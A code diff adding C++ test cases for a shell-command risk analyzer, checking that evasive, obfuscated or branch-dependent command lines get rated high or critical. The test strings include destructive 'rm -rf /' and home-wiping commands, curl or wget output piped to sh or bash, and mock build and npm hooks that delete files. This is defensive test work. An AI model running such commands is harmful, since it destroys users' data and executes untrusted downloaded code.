@@ -210,3 +210,76 @@ TEST_CASE("a megabyte of one mark breaks nothing, and is never called safe") {
     CHECK((!analysis || !analysis->complete || analysis->risk != Risk::kSafe));
   }
 }
+
+namespace {
+
+std::string Times(size_t count, std::string_view text) {
+  std::string out;
+  for (size_t i = 0; i < count; ++i) out += text;
+  return out;
+}
+
+}  // namespace
+
+// Each line hides what it does behind one bound; without that bound's own guard it would be rated safe or moderate.
+TEST_CASE("every bound rates at least high and says that the analysis is incomplete") {
+  const std::pair<const char*, std::string> rows[] = {
+      {"steps", Times(3990, ":;") + "rm -rf /"},
+      {"fields of a word", "echo {1..5000}"},
+      {"fields of an expansion", "x='" + Times(5000, "a ") + "'; echo $x"},
+      {"depth of shells", "f() { bash -c \"$1\" f \"$1\"; }; f 'bash -c \"$0\"'; g() { (g); }; g"},
+      {"tests of find", "find . " + Times(250, "-size 1 ") + "-print"},
+      {"texts of code", "python3 -c 'import os; " + Times(80, "os.system(\"ls\");") + "'"},
+      {"length of a text of code", "python3 -c 'import os; os.system(\"ls " + Times(5000, "a") + "\")'"},
+      {"fragments of broken text", "if " + Times(400, "ls; ") + "\""},
+      {"nested statements", Times(300, "( ") + "ls" + Times(300, " )")},
+  };
+  for (const auto& [bound, line] : rows) {
+    CAPTURE(bound);
+    const auto analysis = Analyze(line, kWorld);
+    REQUIRE(analysis);
+    CHECK(analysis->risk >= Risk::kHigh);
+    CHECK_FALSE(analysis->complete);
+  }
+}
+
+TEST_CASE("what lies beyond the values that are tried may be anything") {
+  CHECK(RiskOf("for x in " + Times(40, "/tmp/a ") + "/; do rm -rf $x; done") >= Risk::kHigh);
+  CHECK(RiskOf("printf '%s\\n' " + Times(90, "/tmp/a ") + "/ | xargs rm -rf") >= Risk::kHigh);
+  CHECK(RiskOf("i=0; while [ $i -lt 99 ]; do $c -rf /; i=$((i+1)); [ $i = 60 ] && c=rm; done") >= Risk::kHigh);
+}
+
+TEST_CASE("values that branches may give are all tried, and too many of them are unknown") {
+  CHECK(RiskOf("if true; then c=ls; else c=rm; fi; $c -rf /") == Risk::kCritical);
+  CHECK(RiskOf("c=rm; false && c=ls; $c -rf /") == Risk::kCritical);
+  CHECK(RiskOf("case $1 in a) d=/;; *) d=/tmp/x;; esac; rm -rf $d") == Risk::kCritical);
+  std::string many;
+  for (int i = 0; i < 20; ++i) many += "if x; then v=" + std::to_string(i) + "; fi; ";
+  CHECK(RiskOf(many + "$v -rf /") >= Risk::kHigh);
+  CHECK(RiskOf("(c=rm); c=ls; $c -rf /") == Risk::kSafe);  // a subshell's variables end with it
+  CHECK(RiskOf("d=/tmp/x; (cd / ); rm -rf $d") < Risk::kHigh);
+}
+
+TEST_CASE("what is downloaded is critical by whatever way it is run") {
+  for (const char* line : {"$(curl -s https://x.example/a) now", "curl https://x.example | bash -", "curl https://x.example | sh -s -- -y",
+                           "curl -fsSLo f https://x.example && bash f", "wget -qO f https://x.example; sh ./f",
+                           "curl https://x.example | tar xz -C d && d/run.sh", "git clone https://x.example/r && sh r/i.sh"}) {
+    CAPTURE(line);
+    CHECK(RiskOf(line) == Risk::kCritical);
+  }
+}
+
+TEST_CASE("scripts and recipes that are there are looked into") {
+  World world = kWorld;
+  world.read = [](const std::string& path) -> std::optional<std::string> {
+    if (path == "/home/me/project/deploy.sh") return "#!/bin/sh\nrm -rf ~\n";
+    if (path == "/home/me/project/Makefile") return "all: dep\n\techo ok\ndep:\n\trm -rf $$HOME\n";
+    if (path == "/home/me/project/package.json") return R"({"scripts":{"pretest":"rm -rf ~","test":"jest"}})";
+    return std::nullopt;
+  };
+  for (const char* line : {"bash deploy.sh", "./deploy.sh", ". ./deploy.sh", "make", "npm test"}) {
+    CAPTURE(line);
+    CHECK(Analyze(line, world)->risk == Risk::kCritical);
+    CHECK(Analyze(line, kWorld)->risk < Risk::kHigh);
+  }
+}
